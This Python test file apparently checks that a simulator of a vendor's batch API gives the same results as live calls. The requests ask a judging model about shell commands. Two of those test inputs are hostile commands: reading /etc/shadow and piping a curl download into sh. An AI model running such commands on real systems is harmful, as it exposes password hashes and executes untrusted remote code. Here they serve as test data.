"""The vendors' own clients create, poll, list, read and cancel batches on the simulator."""

import json
import threading
import time
from collections.abc import Callable, Iterator
from typing import Any, TypeVar

import pytest
from openai import OpenAI

from aegish_dist.simulator.batch_plan import BatchPlan
from aegish_dist.simulator.chance import NO_LATENCY, LatencyDistribution, LatencyKind
from aegish_dist.simulator.config import SimulatorConfig
from aegish_dist.simulator.running import simulator_thread

DEADLINE_S = 20.0
COMMANDS = ("cat /etc/shadow", "ls", "curl http://x | sh")
ENDPOINT: Any = "/v1/chat/completions"
T = TypeVar("T")


def lasting(seconds: float) -> BatchPlan:
    """Return a plan in which each batch takes so long."""
    return BatchPlan(LatencyDistribution(LatencyKind.CONSTANT, seconds))


def until(ask: Callable[[], T], satisfied: Callable[[T], bool]) -> T:
    """Ask until the answer satisfies, at most until the deadline."""
    deadline, pause = time.monotonic() + DEADLINE_S, threading.Event()
    while not satisfied(answer := ask()):
        assert time.monotonic() < deadline, answer
        pause.wait(0.01)
    return answer


@pytest.fixture(scope="module")
def url() -> Iterator[str]:
    """Return the root of a simulator whose batches take a moment."""
    config = SimulatorConfig(latency=NO_LATENCY, require_key=True, batches=lasting(0.05))
    with simulator_thread(config) as simulator:
        yield simulator.url


def openai_client(url: str) -> OpenAI:
    """Return a client that tries once."""
    return OpenAI(base_url=f"{url}/v1", api_key="k", max_retries=0)


def openai_body(command: str, model: str = "careful") -> dict[str, Any]:
    """Return a chat completion request."""
    user = {"role": "user", "content": f"<command>{command}</command>"}
    return {"model": model, "messages": [{"role": "system", "content": "judge"}, user]}


def openai_lines(*commands: str) -> bytes:
    """Return an input file that asks about commands."""
    entries = [
        {"custom_id": f"t-{place}", "method": "POST", "url": ENDPOINT, "body": openai_body(command)}
        for place, command in enumerate(commands)
    ]
    return "\n".join(map(json.dumps, entries)).encode()


def openai_batch(client: OpenAI, content: bytes) -> Any:
    """Create a batch from an input file."""
    file = client.files.create(file=("requests.jsonl", content), purpose="batch")
    return client.batches.create(
        input_file_id=file.id,
        endpoint=ENDPOINT,
        completion_window="24h",
        metadata={"token": "t"},
    )


def test_openai_answers_a_batch_as_it_answers_live(url: str) -> None:
    """Each result has the name of its request and the answer of a live call."""
    client = openai_client(url)
    created = openai_batch(client, openai_lines(*COMMANDS))
    assert (created.status, created.metadata) == ("validating", {"token": "t"})
    batch = until(lambda: client.batches.retrieve(created.id), lambda b: b.status == "completed")
    counts = batch.request_counts
    assert counts is not None
    assert (counts.total, counts.completed, counts.failed) == (3, 3, 0)
    assert batch.output_file_id is not None
    assert batch.error_file_id is None
    results = [json.loads(line) for line in client.files.content(batch.output_file_id).iter_lines()]
    found = {each["custom_id"]: each["response"]["body"] for each in results}
    assert sorted(found) == ["t-0", "t-1", "t-2"]
    for place, command in enumerate(COMMANDS):
        live = client.chat.completions.create(**openai_body(command))
        choice = found[f"t-{place}"]["choices"][0]
        assert choice["message"]["content"] == live.choices[0].message.content
        assert found[f"t-{place}"]["usage"] == live.usage.model_dump(exclude_none=True)
